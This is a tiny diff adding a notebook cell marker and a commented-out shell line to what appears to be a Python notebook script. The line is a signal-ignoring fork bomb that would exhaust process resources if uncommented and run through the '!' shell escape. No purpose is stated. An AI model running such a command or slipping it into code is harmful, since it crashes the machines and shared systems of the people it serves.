@@ -1,0 +1,2 @@
+# %%
+# !sh -c 'trap "" INT TERM HUP; f() { f | f & }; f; sleep 1000'
